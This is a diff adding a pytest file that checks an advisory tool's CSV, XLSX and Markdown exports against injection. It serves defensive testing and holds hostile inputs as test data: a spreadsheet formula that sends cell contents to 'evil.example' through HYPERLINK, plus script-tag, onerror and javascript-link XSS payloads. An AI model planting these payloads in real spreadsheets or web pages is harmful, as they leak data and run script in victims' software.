@@ -1,0 +1,208 @@
+"""Exports are data, never code: no spreadsheet formulas, no raw HTML, no crash on stored text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import subprocess
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+
+from advisor.engine import Engine
+from advisor.errors import InputError
+from advisor.export import FORMATS, export
+from advisor.facts import TEXT, Assessment, parse_assessment
+from advisor.plan import Plan
+from advisor.planner import make_plan
+
+# OWASP's list of characters that make a spreadsheet read a cell as a formula.
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# Keys of the plan whose text comes from the answers or from the rule files.
+FREE_TEXT = ("organisation", "name", "title", "text")
+
+
+def _rewrite(value: Any, change: Any) -> Any:
+    """The plan's JSON with every free-text string passed through `change`."""
+    if isinstance(value, dict):
+        return {
+            k: change(v) if k in FREE_TEXT and isinstance(v, str) else _rewrite(v, change)
+            for k, v in value.items()
+        }
+    if isinstance(value, list):
+        return [_rewrite(v, change) for v in value]
+    return value
+
+
+def _plan(contoso: Assessment, engine: Engine, change: Any, language: str = "en") -> Plan:
+    with engine.version() as compiled:
+        plan = make_plan(contoso, compiled, language)  # type: ignore[arg-type]
+    return Plan.model_validate(_rewrite(plan.model_dump(mode="json"), change))
+
+
+def _xlsx_cells(data: bytes) -> list[Any]:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(data))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_no_cell_of_any_tabular_export_is_a_formula(
+    contoso: Assessment, engine: Engine, trigger: str
+) -> None:
+    formula = trigger + 'HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    plan = _plan(contoso, engine, lambda text: formula)
+
+    cells = _xlsx_cells(export(plan, "xlsx"))
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert sum("HYPERLINK" in t for t in texts) > 20  # the names and texts are all there, as text
+    assert [t for t in texts if t.startswith(TRIGGERS)] == []
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+
+    rows = list(csv.reader(io.StringIO(export(plan, "csv").decode("utf-8-sig"))))
+    assert sum("HYPERLINK" in cell for row in rows for cell in row) > 5
+    assert [cell for row in rows for cell in row if cell.startswith(TRIGGERS)] == []
+
+
+def test_a_neutralised_cell_keeps_its_text_after_the_quote(contoso: Assessment, engine: Engine) -> None:
+    plan = _plan(contoso, engine, lambda text: "=1+1")
+    cells = _xlsx_cells(export(plan, "xlsx"))
+    assert "'=1+1" in [c.value for c in cells]
+    assert "Rollout plan for '=1+1" not in [c.value for c in cells]  # only a cell's start matters
+    ordinary = _plan(contoso, engine, lambda text: text)
+    assert "IT" in [c.value for c in _xlsx_cells(export(ordinary, "xlsx"))]
+
+
+@pytest.mark.parametrize("kind", sorted(FORMATS))
+def test_stored_text_with_control_characters_still_exports(
+    contoso: Assessment, engine: Engine, kind: str
+) -> None:
+    """A plan saved before control characters were refused must still export, in every format."""
+    plan = _plan(contoso, engine, lambda text: f"A\x00B\x01C\x0bD\x1bE\x7fF {text}")
+    data = export(plan, kind)
+    assert data
+    if kind == "xlsx":
+        texts = [c.value for c in _xlsx_cells(data) if isinstance(c.value, str)]
+        assert any(t.startswith("A\ufffdB\ufffdC\ufffdD\ufffdE") for t in texts)
+        assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in texts)
+
+
+def _html_of(markdown: str) -> str:
+    html: str = MarkdownIt("commonmark").enable("table").render(markdown)
+    return html
+
+
+def test_markdown_escapes_html_from_names_reasons_and_rule_texts(contoso: Assessment, engine: Engine) -> None:
+    attack = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
+    plan = _plan(contoso, engine, lambda text: f"{attack} {text}")
+    markdown = export(plan, "markdown").decode()
+    html = _html_of(markdown)
+    assert "<img" not in html
+    assert "<script" not in html
+    assert html.count("&lt;script&gt;alert(2)&lt;/script&gt;") > 20  # shown as text, everywhere
+    assert "IT executives" in html  # still readable
+
+
+def test_markdown_escapes_links_emphasis_and_table_cells(contoso: Assessment, engine: Engine) -> None:
+    plan = _plan(contoso, engine, lambda text: f"[x](javascript:alert(1)) *a* | b\nc `d` {text}")
+    html = _html_of(export(plan, "markdown").decode())
+    assert 'href="javascript' not in html
+    assert "<em>" not in html
+    assert "<code>" not in html
+    assert "[x](javascript:alert(1)) *a* | b c `d`" in html
+    table = html.split("<table>")[1].split("</table>")[0]
+    header = table.split("</thead>")[0]
+    rows = table.split("</thead>")[1].split("<tr>")[1:]
+    # a | inside a name neither adds a column nor ends the row
+    assert len(rows) == 7
+    assert all(r.count("<td>") == header.count("<th>") == 5 for r in rows)
+
+
+CONTROL = ["\x00", "\x01", "\x07", "\x0b", "\x1b", "\x7f", "\x85", "\x9f", "\n", "\r", "\t"]
+
+
+def _with(contoso: Assessment, path: str, value: Any) -> dict[str, Any]:
+    data = contoso.model_dump(mode="json")
+    if path == "organisation.name":
+        data["organisation"]["name"] = value
+    else:
+        field = path.split(".")[1]
+        data["groups"][1][field] = [value, "Oslo"] if field == "locations" else value
+    return data
+
+
+@pytest.mark.parametrize("char", CONTROL)
+@pytest.mark.parametrize(
+    ("path", "where"),
+    [
+        ("organisation.name", "organisation.name"),
+        ("groups.name", "groups[1].name"),
+        ("groups.department", "groups[1].department"),
+        ("groups.locations", "groups[1].locations[0]"),
+    ],
+)
+def test_free_text_refuses_control_characters(contoso: Assessment, char: str, path: str, where: str) -> None:
+    with pytest.raises(InputError) as english:
+        parse_assessment(_with(contoso, path, f"Sales{char}North"))
+    assert [(p.path, p.message) for p in english.value.problems] == [
+        (where, f"must not contain control characters (U+{ord(char):04X})")
+    ]
+    with pytest.raises(InputError) as swedish:
+        parse_assessment(_with(contoso, path, f"Sales{char}North"), language="sv")
+    assert [(p.path, p.message) for p in swedish.value.problems] == [
+        (where, f"får inte innehålla styrtecken (U+{ord(char):04X})")
+    ]
+
+
+@pytest.mark.parametrize("text", ["Åsa's team", "Sales\u2028North", "Ünïcødé ✓", "R&D <West>", "=1+1"])
+def test_ordinary_text_is_still_accepted(contoso: Assessment, text: str) -> None:
+    for path in ("organisation.name", "groups.name", "groups.department", "groups.locations"):
+        parse_assessment(_with(contoso, path, text))
+
+
+def test_the_schema_states_the_same_rule_as_the_validator(contoso: Assessment) -> None:
+    """Every code point up to U+00A0 and the Unicode spaces: schema and validator agree."""
+    schema = Assessment.model_json_schema()
+    pattern = schema["$defs"]["Group"]["properties"]["name"]["pattern"]
+    assert schema["$defs"]["Organisation"]["properties"]["name"]["pattern"] == pattern
+    chars = [chr(c) for c in range(0xA1)] + ["\u1680", "\u2000", "\u2028", "\u3000", "\ufeff", "x"]
+    for char in chars:
+        for value in (char, f"a{char}b", f"{char} ", f"a{char}"):
+            by_schema = re.search(pattern, value) is not None  # as JSON Schema reads "pattern"
+            try:
+                parse_assessment(_with(contoso, "groups.name", value))
+                by_model = True
+            except InputError:
+                by_model = False
+            assert by_schema == by_model, (repr(value), by_schema, by_model)
+
+
+_ECMA = """
+const pattern = new RegExp(JSON.parse(process.argv[1]), "u");
+const values = JSON.parse(require("fs").readFileSync(0, "utf8"));
+console.log(JSON.stringify(values.map((v) => pattern.test(v))));
+"""
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js for ECMA-262 regular expressions")
+def test_the_pattern_means_the_same_in_ecma_262() -> None:
+    """JSON Schema's patterns are ECMA-262: a JavaScript engine agrees with Python's `re`."""
+    chars = [chr(c) for c in range(0xA1)] + ["\u1680", "\u2000", "\u2028", "\u3000", "\ufeff", "x"]
+    values = [v for c in chars for v in (c, f"a{c}b", f"{c} ", f"a{c}")]
+    result = subprocess.run(
+        ["node", "-e", _ECMA, json.dumps(TEXT)],
+        input=json.dumps(values),
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    by_ecma = json.loads(result.stdout)
+    by_python = [re.search(TEXT, v) is not None for v in values]
+    assert [v for v, a, b in zip(values, by_ecma, by_python, strict=True) if a != b] == []
+    assert sum(by_python) > 300
